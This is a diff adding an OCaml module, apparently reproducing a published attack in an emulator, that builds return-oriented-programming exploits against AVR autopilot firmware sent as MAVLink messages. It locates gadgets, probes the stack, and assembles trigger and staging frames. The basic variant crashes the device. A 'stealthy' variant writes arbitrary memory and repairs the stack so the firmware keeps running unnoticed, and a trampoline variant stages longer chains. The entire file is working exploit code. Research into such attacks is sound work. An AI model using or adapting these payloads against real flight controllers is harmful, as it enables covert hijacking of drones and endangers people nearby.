@@ -1,0 +1,233 @@
+module Cpu = Mavr_avr.Cpu
+module Image = Mavr_obj.Image
+module Layout = Mavr_firmware.Layout
+module Frame = Mavr_mavlink.Frame
+
+type target_info = {
+  image : Image.t;
+  gadgets : Gadget.paper_gadgets;
+  stage_addr : int;
+  vuln_msgid : int;
+  staging_msgid : int;
+}
+
+type observation = { s0 : int; saved_bytes : string; regs : int array; gyro_addr : int }
+
+type write = { base : int; bytes : int * int * int }
+
+(* Geometry of the vulnerable frame (see the .mli): buffer byte i lands at
+   s0 - 71 + i; bytes 66..68 are the saved registers, 69..71 the return
+   address.  The trigger payload stops exactly at the return address. *)
+let trigger_len = 72
+let saved_regs_off = 66
+let ret_off = 69
+
+let analyze (build : Mavr_firmware.Build.t) =
+  match Gadget.locate_paper_gadgets build.image with
+  | Some gadgets ->
+      {
+        image = build.image;
+        gadgets;
+        stage_addr = Layout.stage;
+        vuln_msgid = 23;
+        staging_msgid = 76;
+      }
+  | None -> failwith "Rop.analyze: stk_move / write_mem gadgets not found in binary"
+
+let benign_param_set =
+  Frame.encode
+    { Frame.seq = 1; sysid = 255; compid = 0; msgid = 23; payload = String.make 16 '\x01' }
+
+let observe ti =
+  let cpu = Cpu.create () in
+  Cpu.load_program cpu ti.image.Image.code;
+  (* Let the firmware boot, then deliver a benign PARAM_SET and break at
+     the frame-teardown gadget. *)
+  (match Cpu.run cpu ~max_cycles:50_000 with `Budget_exhausted -> () | `Halted _ -> ());
+  Cpu.uart_send cpu benign_param_set;
+  let target_pc = ti.gadgets.Gadget.stk_move in
+  (match
+     Cpu.run_until cpu ~max_cycles:2_000_000 (fun c -> Cpu.pc_byte_addr c = target_pc)
+   with
+  | `Pred -> ()
+  | `Halted _ | `Budget_exhausted -> failwith "Rop.observe: dry run never reached the teardown");
+  (* At the teardown Y has been restored to s0 - 6. *)
+  let y = Cpu.reg cpu 28 lor (Cpu.reg cpu 29 lsl 8) in
+  let s0 = y + 6 in
+  {
+    s0;
+    saved_bytes = Cpu.stack_slice cpu ~pos:(s0 - 5) ~len:6;
+    regs = Array.init 32 (Cpu.reg cpu);
+    gyro_addr = Cpu.device cpu |> fun d -> d.Mavr_avr.Device.io_base + Mavr_avr.Device.Io.gyro_lo;
+  }
+
+let write_u16 obs ~addr ~value ~neighbour =
+  ignore obs;
+  { base = addr - 1; bytes = (value land 0xFF, (value lsr 8) land 0xFF, neighbour) }
+
+(* ---- chain assembly ------------------------------------------------- *)
+
+let add_ret buf byte_addr =
+  (* Return addresses sit big-endian on the stack (MSB at the lower
+     address); ret consumes the lower address first. *)
+  let w = byte_addr / 2 in
+  Buffer.add_char buf (Char.chr ((w lsr 16) land 0xFF));
+  Buffer.add_char buf (Char.chr ((w lsr 8) land 0xFF));
+  Buffer.add_char buf (Char.chr (w land 0xFF))
+
+(* One 16-byte register set in ps_pops order:
+   r29 r28 r17 r16 r15 r14 r13 r12 r11 r10 r9 r8 r7 r6 r5 r4. *)
+let add_set buf (obs : observation) ~y ~stores =
+  let b1, b2, b3 = stores in
+  let reg r =
+    match r with
+    | 29 -> (y lsr 8) land 0xFF
+    | 28 -> y land 0xFF
+    | 7 -> b3
+    | 6 -> b2
+    | 5 -> b1
+    | r -> obs.regs.(r)
+  in
+  List.iter
+    (fun r -> Buffer.add_char buf (Char.chr (reg r)))
+    [ 29; 28; 17; 16; 15; 14; 13; 12; 11; 10; 9; 8; 7; 6; 5; 4 ]
+
+(* The universal chain: enter via a stk_move pivot (3 junk pop bytes),
+   load the first set through the gadget's pop half, then one
+   write_mem round per write; the final set re-arms r28:r29 for the
+   closing pivot to [final_pivot] (usually s0 - 6, the clean return). *)
+let chain_bytes ti (obs : observation) ~writes ~final_pivot =
+  let buf = Buffer.create 256 in
+  Buffer.add_string buf "\x00\x00\x00" (* pivot's own pops: r28, r29, r16 *);
+  add_ret buf ti.gadgets.Gadget.write_mem_pops;
+  let rec rounds = function
+    | [] -> ()
+    | { base; bytes } :: rest ->
+        add_set buf obs ~y:base ~stores:bytes;
+        add_ret buf ti.gadgets.Gadget.write_mem;
+        rounds rest
+  in
+  rounds writes;
+  (* Final set: registers restored to their originals, Y aimed at the
+     closing pivot target. *)
+  add_set buf obs ~y:final_pivot
+    ~stores:(obs.regs.(5), obs.regs.(6), obs.regs.(7));
+  add_ret buf ti.gadgets.Gadget.stk_move;
+  Buffer.contents buf
+
+(* The two repair writes that make a return clean: restore the saved
+   registers (s0-5..s0-3) and the smashed return address (s0-2..s0). *)
+let repair_writes (obs : observation) =
+  let b i = Char.code obs.saved_bytes.[i] in
+  [
+    { base = obs.s0 - 6; bytes = (b 0, b 1, b 2) };
+    { base = obs.s0 - 3; bytes = (b 3, b 4, b 5) };
+  ]
+
+let frame ~msgid payload =
+  Frame.encode { Frame.seq = 0; sysid = 255; compid = 0; msgid; payload }
+
+(* Trigger payload: padding up to the saved registers, then the pivot
+   values and the stk_move gadget's address over the return address. *)
+let trigger_payload ti ~pivot =
+  let buf = Buffer.create trigger_len in
+  Buffer.add_string buf (String.make saved_regs_off '\xA5');
+  Buffer.add_char buf (Char.chr (pivot land 0xFF)) (* popped into r28 *);
+  Buffer.add_char buf (Char.chr ((pivot lsr 8) land 0xFF)) (* r29 *);
+  Buffer.add_char buf '\x00' (* r16 *);
+  add_ret buf ti.gadgets.Gadget.stk_move;
+  let p = Buffer.contents buf in
+  assert (String.length p = trigger_len && ret_off + 3 = trigger_len);
+  p
+
+(* Staging frame: a benign message whose payload fills STAGE verbatim. *)
+let staging_frame ti ~stage_image =
+  frame ~msgid:ti.staging_msgid stage_image
+
+(* A full stealthy volley: stage the chain at STAGE[72..], then trigger.
+   The trigger frame is exactly 72 bytes, so the victim's callers are
+   untouched; the chain runs inside STAGE. *)
+let volley ti obs ~writes ~final_pivot =
+  let chain = chain_bytes ti obs ~writes ~final_pivot in
+  if trigger_len + String.length chain > Layout.stage_len then
+    invalid_arg "Rop: chain too long for the staging buffer";
+  let stage_image = String.make trigger_len '\x00' ^ chain in
+  let pivot = ti.stage_addr + trigger_len - 1 in
+  [ staging_frame ti ~stage_image; frame ~msgid:ti.vuln_msgid (trigger_payload ti ~pivot) ]
+
+let v2_stealthy ti obs ~writes =
+  if List.length writes > 6 then invalid_arg "Rop.v2_stealthy: at most 6 writes per volley";
+  volley ti obs ~writes:(writes @ repair_writes obs) ~final_pivot:(obs.s0 - 6)
+
+(* V1: no pivot, no repair.  The chain is laid out directly behind the
+   smashed return address, consuming (and destroying) the callers'
+   stack; after the write the CPU returns into garbage. *)
+let v1_basic ti obs ~writes =
+  let buf = Buffer.create 128 in
+  Buffer.add_string buf (String.make saved_regs_off '\xA5');
+  Buffer.add_string buf "\x00\x00\x00" (* saved r28, r29, r16 slots *);
+  add_ret buf ti.gadgets.Gadget.write_mem_pops;
+  List.iter
+    (fun { base; bytes } ->
+      add_set buf obs ~y:base ~stores:bytes;
+      add_ret buf ti.gadgets.Gadget.write_mem)
+    writes;
+  (* One more set for the last gadget's pops, then a wild return. *)
+  add_set buf obs ~y:0 ~stores:(0, 0, 0);
+  add_ret buf (ti.image.Image.text_end + 256);
+  [ frame ~msgid:ti.vuln_msgid (Buffer.contents buf) ]
+
+(* A wrong-guess probe: the overwritten return address points past the
+   programmed image, so the PC leaves valid flash immediately. *)
+let crash_probe ti =
+  let buf = Buffer.create trigger_len in
+  Buffer.add_string buf (String.make saved_regs_off '\xA5');
+  Buffer.add_string buf "\x00\x00\x00";
+  add_ret buf (String.length ti.image.Image.code + 0x1000);
+  [ frame ~msgid:ti.vuln_msgid (Buffer.contents buf) ]
+
+(* ---- V3: the trampoline --------------------------------------------- *)
+
+(* Stage arbitrary data into free memory, 3 bytes per write, up to 6
+   writes (18 bytes) per clean-return volley. *)
+let v3_stage ti obs ~data ~dest =
+  let n = String.length data in
+  let writes = ref [] in
+  let pos = ref 0 in
+  while !pos < n do
+    let b i = if !pos + i < n then Char.code data.[!pos + i] else 0 in
+    writes := { base = dest + !pos - 1; bytes = (b 0, b 1, b 2) } :: !writes;
+    pos := !pos + 3
+  done;
+  let rec volleys acc = function
+    | [] -> List.rev acc
+    | ws ->
+        let batch, rest =
+          let rec take k = function
+            | x :: tl when k > 0 ->
+                let b, r = take (k - 1) tl in
+                (x :: b, r)
+            | l -> ([], l)
+          in
+          take 6 ws
+        in
+        volleys (v2_stealthy ti obs ~writes:batch :: acc) rest
+  in
+  List.concat (volleys [] (List.rev !writes))
+
+let big_chain_bytes ti obs ~writes =
+  chain_bytes ti obs ~writes:(writes @ repair_writes obs) ~final_pivot:(obs.s0 - 6)
+
+(* Stage a long chain at [chain_dest], then fire a trigger whose final
+   pivot lands in the staged chain instead of returning home; the staged
+   chain performs all writes, repairs the frame and pivots home itself. *)
+let v3_execute ti obs ~chain_dest ~writes =
+  let big = big_chain_bytes ti obs ~writes in
+  (* The staged chain is entered by a stk_move pivot to chain_dest - 1;
+     its first 3 bytes feed that pivot's pops. *)
+  let stage_frames = v3_stage ti obs ~data:big ~dest:chain_dest in
+  let fire =
+    (* A volley with no user writes whose final pivot enters the big chain. *)
+    volley ti obs ~writes:(repair_writes obs) ~final_pivot:(chain_dest - 1)
+  in
+  stage_frames @ fire
